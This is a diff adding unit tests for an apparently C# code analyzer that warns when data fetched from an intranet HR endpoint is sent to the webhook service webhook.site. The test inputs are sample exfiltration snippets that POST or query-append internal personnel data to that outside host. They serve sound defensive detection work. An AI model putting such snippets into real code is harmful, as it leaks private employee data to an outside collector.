@@ -23,6 +23,37 @@ public class ExfiltrationProneHostTests
         .Severity(DiagnosticSeverity.Info).Reports();
 
     [Fact]
+    public Task Warns_where_data_of_the_intranet_arrives() => Check<ExfiltrationProneHost>.Statements("""
+        var http = new HttpClient();
+        var people = await http.GetStringAsync("https://hr.internal/people");
+        await http.PostAsync([|"https://webhook.site/1"|], new StringContent(people));
+        """)
+        .Message("'webhook.site' is a webhook service, and data of the intranet reaches it; make sure that this program is meant to connect there")
+        .Severity(DiagnosticSeverity.Warning).Reports();
+
+    [Fact]
+    public Task Is_silent_where_the_data_itself_stands() => Check<ExfiltrationProneHost>.Statements("""
+        var http = new HttpClient();
+        var people = await http.GetStringAsync("https://hr.internal/people");
+        await http.GetAsync($"https://webhook.site/1?d={people}");
+        """).Silent();
+
+    [Fact]
+    public Task Is_silent_where_the_mix_is_reported() => Check<ExfiltrationProneHost>.Statements("""
+        var http = new HttpClient();
+        await http.GetStringAsync("https://hr.internal/people");
+        await http.PostAsync({|HYG4001:"https://webhook.site/1"|}, new StringContent(input));
+        """).Beside<MixedZones>().Reports();
+
+    [Fact]
+    public Task Is_silent_where_the_shared_client_is_reported() => Check<ExfiltrationProneHost>.Statements("""
+        var http = new HttpClient();
+        http.DefaultRequestHeaders.Add("X-Api-Key", input);
+        await http.GetStringAsync("https://hr.internal/people");
+        await http.PostAsync({|HYG4004:"https://webhook.site/1"|}, new StringContent(input));
+        """).Beside<ClientForTwoZones>().Reports();
+
+    [Fact]
     public Task Reports_hosts_of_which_a_part_is_known() => Check<ExfiltrationProneHost>
         .Statements("""await new HttpClient().PutAsync($"https://{input}[|.blob.core.windows.net/x|]", null);""").Reports();
 
